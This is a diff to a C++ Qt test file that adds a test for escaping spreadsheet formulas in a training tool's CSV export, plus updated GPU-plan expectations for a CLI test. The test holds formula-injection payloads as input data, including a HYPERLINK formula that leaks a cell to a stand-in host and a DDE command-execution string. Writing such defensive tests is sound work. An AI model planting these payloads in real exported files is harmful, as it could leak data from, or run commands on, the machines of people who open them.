@@ -1,6 +1,7 @@
 // test_session.cpp — sessions as a user relies on them: YAML that round-trips exactly, located
 // errors for every kind of bad input, saves that never lose the previous file, sweeps that skip
 // what cannot run and keep finished results, the embedded presets, and headlab-cli's exit codes.
+#include "core/config/Files.h"
 #include "core/config/HeadSchedule.h"
 #include "core/metrics/Metrics.h"
 #include "core/schema/Dimensions.h"
@@ -30,6 +31,7 @@
 #include <limits>
 #include <set>
 #include <sstream>
+#include <string_view>
 
 #include <signal.h>
 #include <sys/resource.h>
@@ -398,6 +400,7 @@ private Q_SLOTS:
     void unknownPresetSuggestsANearName();
 
     void exportCsvWritesRunsAndCurves();
+    void exportedCellsAreNeverFormulas();
     void learnedHasOneDefinition();
     void cliValidateExitCodes();
     void cliPresetsAndHelp();
@@ -1052,6 +1055,58 @@ void TestSession::exportCsvWritesRunsAndCurves()
     QVERIFY(curves.find("0,test_digit_0,7,0.2\n") != std::string::npos);
 }
 
+// No cell of an export is a formula (issue 74): a shared session's labels, device, host,
+// command, provenance, messages and metric names reach runs.csv and curves.csv, and a spreadsheet
+// evaluates a cell that starts with =, +, -, @, a tab or a carriage return. Such a text gets a
+// leading apostrophe (OWASP); numbers, negative ones too, stay as they are.
+void TestSession::exportedCellsAreNeverFormulas()
+{
+    QCOMPARE(csvField("=HYPERLINK(\"http://x/?leak=\"&A1,\"Click\")"),
+             std::string("\"'=HYPERLINK(\"\"http://x/?leak=\"\"&A1,\"\"Click\"\")\""));
+    QCOMPARE(csvField("+cmd|' /C calc'!A0"), std::string("\"'+cmd|' /C calc'!A0\""));
+    QCOMPARE(csvField("@SUM(A1)"), std::string("\"'@SUM(A1)\""));
+    QCOMPARE(csvField("-2+3"), std::string("\"'-2+3\""));
+    QCOMPARE(csvField("\tx"), std::string("\"'\tx\""));
+    QCOMPARE(csvField("\r=1"), std::string("\"'\r=1\""));
+    for (const char *number : {"-1", "-0.5", "+3", "-1e-3", "-inf", "12"})
+        QCOMPARE(csvField(number), std::string(number));
+    QCOMPARE(csvField("a=b"), std::string("a=b")); // only the first character starts a formula
+
+    QTemporaryDir dir;
+    Session s = fullSession();
+    s.runs[0].labels["d_model"] = "=1+1";
+    s.runs[0].result.device = "+cmd|' /C calc'!A0";
+    s.runs[0].result.message = "@evil";
+    s.runs[0].result.provenance["-x"] = "=2";
+    s.runs[0].result.extra["=metric"] = {{1, 0.5}};
+    const CsvExportSummary summary = exportSessionCsv(s, dir.filePath("csv").toStdString());
+    const std::string runs = readFile(QString::fromStdString(summary.runsPath));
+    const std::string curves = readFile(QString::fromStdString(summary.curvesPath));
+    for (const std::string &text : {runs, curves}) {
+        std::istringstream lines(text);
+        std::string line;
+        while (std::getline(lines, line)) {
+            // Every cell (split at commas outside quotes; a quoted cell's text starts after its
+            // quote) starts otherwise than a formula does.
+            bool quoted = false;
+            for (size_t i = 0; i < line.size(); ++i) {
+                if (i == 0 || (line[i - 1] == ',' && !quoted)) {
+                    const size_t first = line[i] == '"' ? i + 1 : i;
+                    QVERIFY2(first >= line.size() || std::string_view("=+@").find(line[first]) ==
+                                                         std::string_view::npos,
+                             line.c_str());
+                }
+                if (line[i] == '"') quoted = !quoted;
+            }
+        }
+    }
+    QVERIFY2(runs.find("\"'=1+1\"") != std::string::npos, runs.c_str());
+    QVERIFY2(runs.find("\"'+cmd|' /C calc'!A0\"") != std::string::npos, runs.c_str());
+    QVERIFY2(runs.find("\"'@evil\"") != std::string::npos, runs.c_str());
+    QVERIFY2(runs.find("\"'=2\"") != std::string::npos, runs.c_str());
+    QVERIFY2(curves.find("\"'=metric\"") != std::string::npos, curves.c_str());
+}
+
 void TestSession::cliValidateExitCodes()
 {
     QTemporaryDir dir;
@@ -1086,16 +1141,17 @@ void TestSession::cliValidateExitCodes()
              qPrintable(result.out));
 
     // --plan N: how run --device all would train the grid on four GPUs, without them. The five
-    // 384-wide runs train one an ensemble, so one GPU gets two of them: 28 % of the work.
+    // 384-wide runs train one an ensemble; a step costs at least the per-step floor, so the three
+    // narrowest ensembles of five runs share one GPU, the busiest: 27.1 % of the work.
     const QString grid = dir.filePath("grid.yaml");
     for (const auto &preset : builtinPresets())
         if (preset.name == "addition-fig2-grid") writeFile(grid, preset.yaml);
     result = runCli({"validate", grid, "--plan", "4"});
     QCOMPARE(result.exitCode, 0);
-    QVERIFY2(result.out.contains("plan on 4 GPUs: 25 runs in 10 ensembles") &&
-                 result.out.contains("the busiest GPU has 28.0 % of the work (3.57x one GPU") &&
-                 result.out.contains("cuda:3, 28.0 %: 1 run of d_model 384, heads 2 (14.0 %); "
-                                     "1 run of d_model 384, heads 1 (14.0 %)"),
+    QVERIFY2(result.out.contains("plan on 4 GPUs: 25 runs in 9 ensembles") &&
+                 result.out.contains("the busiest GPU has 27.1 % of the work (3.69x one GPU") &&
+                 result.out.contains("cuda:1, 27.1 %: 5 runs of d_model 96, heads 1, 2, 3, 6, 12 "
+                                     "(9.2 %); 5 runs of d_model 48"),
              qPrintable(result.out));
     result = runCli({"validate", grid, "--plan", "0"});
     QCOMPARE(result.exitCode, 2);
